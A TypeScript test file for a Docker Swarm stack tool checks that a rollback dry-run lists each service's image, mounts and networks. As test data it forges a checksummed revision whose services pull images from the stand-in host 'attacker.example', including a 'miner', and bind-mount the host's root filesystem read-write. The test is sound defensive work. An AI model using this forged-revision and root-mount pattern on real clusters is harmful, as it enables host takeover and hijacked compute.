/**
 * The rollback's plan shows what each service it creates or updates would run: its image, its mounts and its
 * networks, in full. A revision anyone may have written (its checksum proves no authorship) that runs an attacker's
 * image with the host's `/` mounted is visible in `rollback --to N --dry-run` before anything is sent.
 */
import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';

import type { Config, Network, Service, ServiceSpec } from '../../src/core/specs';
import { REVISION_LABEL, REVISION_SHA256_LABEL, revisionConfigName, type RevisionPayload } from '../../src/core/stack/history';
import { runCliCaptured, scriptedEmptySwarm } from './support/cli';

const NS = 'com.docker.stack.namespace';
const IDLE_NETWORK: Network = { Id: 'net-default', Name: 'prod_default', Scope: 'swarm', Driver: 'overlay', Labels: { [NS]: 'prod' } };
const BACKEND: Network = { Id: 'net-backend', Name: 'prod_backend', Scope: 'swarm', Driver: 'overlay', Labels: { [NS]: 'prod' } };

function spec(name: string, image: string, extra: { mounts?: ServiceSpec['TaskTemplate']['ContainerSpec'] extends infer C ? C extends { Mounts?: infer M } ? M : never : never; networks?: string[]; env?: string[] } = {}): ServiceSpec {
    return {
        Name: name,
        Labels: { [NS]: 'prod', 'com.docker.stack.image': image },
        TaskTemplate: {
            ContainerSpec: { Image: image, ...(extra.mounts ? { Mounts: extra.mounts } : {}), ...(extra.env ? { Env: extra.env } : {}) },
            ...(extra.networks ? { Networks: extra.networks.map((Target) => ({ Target })) } : {}),
            ForceUpdate: 0,
        },
        Mode: { Replicated: { Replicas: 1 } },
    };
}

/** What anyone who may create configs can write: a revision with a matching checksum. */
function forgedRevision(services: { name: string; spec: ServiceSpec }[]): Config {
    const payload: RevisionPayload = {
        schema: 1,
        stack: 'prod',
        revision: 1,
        time: '2026-12-01T00:00:00.000Z',
        deployedBy: 'ops@ci',
        version: '0.1.0',
        reason: 'deploy',
        networks: [IDLE_NETWORK, BACKEND].map((n) => ({ id: n.Id, name: n.Name, request: { Name: n.Name, Driver: 'overlay', Scope: 'swarm', IPAM: null, Internal: false, Attachable: false, Ingress: false, ConfigOnly: false, ConfigFrom: null, Options: null, Labels: { [NS]: 'prod' } } })),
        services,
    };
    const data = gzipSync(Buffer.from(JSON.stringify(payload)));
    return {
        ID: 'rev1',
        Version: { Index: 1 },
        Spec: {
            Name: revisionConfigName('prod', 1),
            Labels: { [NS]: 'prod', [REVISION_LABEL]: '1', [REVISION_SHA256_LABEL]: createHash('sha256').update(data).digest('hex') },
            Data: data.toString('base64'),
        },
    } as unknown as Config;
}

describe('rollback --to N --dry-run: the image, mounts and networks of each service it creates or updates', () => {
    it('shows a forged revision\'s image and bind mount of / for a new and an updated service, and sends nothing', async () => {
        const live: Service = {
            ID: 'web1',
            Version: { Index: 5 },
            Spec: spec('prod_web', 'nginx:1.25@sha256:' + 'a'.repeat(64), { networks: [IDLE_NETWORK.Id], mounts: [{ Type: 'volume', Source: 'prod_static', Target: '/usr/share/nginx/html', ReadOnly: true }] }),
        } as Service;
        const rootBind = [{ Type: 'bind', Source: '/', Target: '/host' }];
        const revision = forgedRevision([
            { name: 'prod_miner', spec: spec('prod_miner', 'attacker.example/miner:latest', { mounts: rootBind, networks: [IDLE_NETWORK.Id] }) },
            { name: 'prod_web', spec: spec('prod_web', 'attacker.example/nginx:latest', { mounts: rootBind, networks: [BACKEND.Id], env: ['A=1'] }) },
        ]);
        const engine = scriptedEmptySwarm({
            listConfigs: async (filters?: { label?: string[] }) => (filters?.label?.includes(REVISION_LABEL) ? [revision] : []),
            listServices: async (filters?: { label?: string[] }) => (filters?.label ? [live] : []),
            listNetworks: async () => [IDLE_NETWORK, BACKEND],
        });
        const r = await runCliCaptured(['rollback', '--to', '1', '--dry-run', 'prod'], { connect: () => engine });
        assert.equal(r.code, 0, r.stderr);
        const lines = r.stdout.trimEnd().split('\n');
        assert.deepEqual(lines.slice(lines.indexOf('service prod_miner: create'), lines.indexOf('service prod_miner: create') + 4), [
            'service prod_miner: create',
            '    image: attacker.example/miner:latest',
            '    mount: bind / → /host (read-write)',
            '    network: prod_default',
        ]);
        const web = lines.indexOf('service prod_web: update');
        assert.ok(web >= 0, r.stdout);
        assert.deepEqual(lines.slice(web + 1, web + 6), [
            `    image: nginx:1.25@sha256:${'a'.repeat(64)} → attacker.example/nginx:latest`,
            '    mount added: bind / → /host (read-write)',
            '    mount removed: volume prod_static → /usr/share/nginx/html (read-only)',
            '    network added: prod_backend',
            '    network removed: prod_default',
        ]);
        // The other changes follow in the plan's words, and the run paths are not repeated there, cut at 120 characters.
        assert.ok(lines.includes('    TaskTemplate.ContainerSpec.Env: (none) → ["A=1"]'), r.stdout);
        assert.ok(!lines.some((l) => l.includes('TaskTemplate.ContainerSpec.Mounts') || l.includes('TaskTemplate.Networks')), r.stdout);
    });

    it('an unchanged image says so; a service the revision leaves alone shows no detail', async () => {
        const image = 'nginx:1.25';
        const live: Service[] = [
            { ID: 'w', Version: { Index: 1 }, Spec: spec('prod_web', image, { networks: [IDLE_NETWORK.Id] }) } as Service,
            { ID: 'a', Version: { Index: 1 }, Spec: spec('prod_api', 'api:1', { networks: [IDLE_NETWORK.Id] }) } as Service,
        ];
        const revision = forgedRevision([
            { name: 'prod_api', spec: spec('prod_api', 'api:1', { networks: [IDLE_NETWORK.Id] }) },
            { name: 'prod_web', spec: { ...spec('prod_web', image, { networks: [IDLE_NETWORK.Id] }), Mode: { Replicated: { Replicas: 3 } } } },
        ]);
        const engine = scriptedEmptySwarm({
            listConfigs: async (filters?: { label?: string[] }) => (filters?.label?.includes(REVISION_LABEL) ? [revision] : []),
            listServices: async (filters?: { label?: string[] }) => (filters?.label ? live : []),
            listNetworks: async () => [IDLE_NETWORK, BACKEND],
        });
        const r = await runCliCaptured(['rollback', '--to', '1', '--dry-run', 'prod'], { connect: () => engine });
        assert.equal(r.code, 0, r.stderr);
        assert.deepEqual(r.stdout.trimEnd().split('\n'), [
            'network prod_default: unchanged',
            'network prod_backend: unchanged',
            'service prod_api: unchanged',
            'service prod_web: update',
            '    image: nginx:1.25 (unchanged)',
            '    Mode.Replicated.Replicas: 1 → 3',
        ]);
    });
});
